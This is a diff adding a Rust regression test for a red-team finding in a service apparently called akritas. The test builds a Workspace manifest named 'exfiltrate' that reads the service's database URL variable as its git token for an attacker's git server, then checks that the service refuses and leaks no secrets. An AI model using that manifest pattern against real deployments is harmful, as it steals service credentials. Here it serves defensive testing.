@@ -410,3 +410,67 @@ spec: {type: webhook, webhook: {url: \"http://10.96.0.12:9/hook\", bearerToken: 
         assert_eq!(check["status"], "True", "{name}: {check}");
     }
 }
+
+const DATABASE_PASSWORD: &str = "db-pass-3c9e71f05a";
+const OPS_KEY: &str = "ops-key-8b2d4f6a1c";
+
+/// The red team's finding: with `resource_env` at its default (`AKRITAS_*`), a Workspace
+/// read `{env: AKRITAS_DATABASE_URL}` as its git token and sent the database URL, password
+/// included, to its own git server. The service's own credentials (the database URL, the
+/// API keys, the audit key, the upstream key) are never resolved for a resource, whatever
+/// `resource_env` says, and their values appear nowhere.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_resource_never_reads_the_database_url_or_an_api_key_variable() {
+    let database_url = format!("postgres://akritas:{DATABASE_PASSWORD}@db.internal:5432/akritas?sslmode=require");
+    let repos = tempfile::tempdir().unwrap();
+    akritas_testkit::git_server::bare_repo(repos.path(), "infra", &[("a.txt", "a\n")]);
+    // The attacker's git server accepts the database URL as its token.
+    let git = akritas_testkit::git_server::GitServer::start(repos.path(), &database_url);
+    let work = tempfile::tempdir().unwrap();
+    let manifests = format!(
+        "apiVersion: akritas.io/v1alpha1\nkind: Workspace\nmetadata: {{name: exfiltrate, namespace: default}}\n\
+         spec:\n  source:\n    git:\n      url: {}/infra.git\n      ref: main\n      \
+         auth: {{username: x, token: {{env: AKRITAS_DATABASE_URL}}}}\n---\n{}{}{}",
+        git.url,
+        alert_source("default", "database", "AKRITAS_DATABASE_URL"),
+        alert_source("default", "ops-key", "AKRITAS_OPS_KEY"),
+        alert_source("default", "team", "AKRITAS_TEAM_TOKEN"),
+    );
+    write(work.path(), "exfiltrate.yaml", &manifests);
+    let mut command = serve_command(env!("CARGO_BIN_EXE_akritas"));
+    command
+        .arg("--resources")
+        .arg(work.path())
+        .args(["--api-key", "default=AKRITAS_API_KEY,ops=AKRITAS_OPS_KEY:read"])
+        .env_remove("AKRITAS_RESOURCE_ENV")
+        .env("AKRITAS_DATABASE_URL", &database_url)
+        .env("AKRITAS_API_KEY", CLIENT_KEY)
+        .env("AKRITAS_OPS_KEY", OPS_KEY)
+        .env("AKRITAS_TEAM_TOKEN", "team-token-0123456789");
+    let server = Server::start(command);
+    let all = settled(&server).await;
+
+    for (kind, name, variable) in [
+        ("Workspace", "exfiltrate", "AKRITAS_DATABASE_URL"),
+        ("AlertSource", "database", "AKRITAS_DATABASE_URL"),
+        ("AlertSource", "ops-key", "AKRITAS_OPS_KEY"),
+    ] {
+        let (status, reason, message) = ready(find(&all, kind, "default", name));
+        assert_eq!((status.as_str(), reason.as_str()), ("False", "EnvNotAllowed"), "{kind}/{name}: {message}");
+        assert!(
+            message.contains(variable) && message.contains("the service's own credential"),
+            "{kind}/{name}: the message says why: {message}"
+        );
+    }
+    assert_eq!(ready(find(&all, "AlertSource", "default", "team")).0, "True", "other AKRITAS_* names still resolve");
+    assert!(
+        git.requests().iter().all(|request| !request.authorization),
+        "the git server was sent credentials: {:?}",
+        git.requests()
+    );
+    let health: Value = reqwest::get(format!("{}/health", server.url)).await.unwrap().json().await.unwrap();
+    let text = format!("{all}\n{health}\n{}", server.log_text());
+    for secret in [database_url.as_str(), DATABASE_PASSWORD, OPS_KEY, CLIENT_KEY] {
+        assert!(!text.contains(secret), "{secret} leaked into a status, /health or the log:\n{text}");
+    }
+}
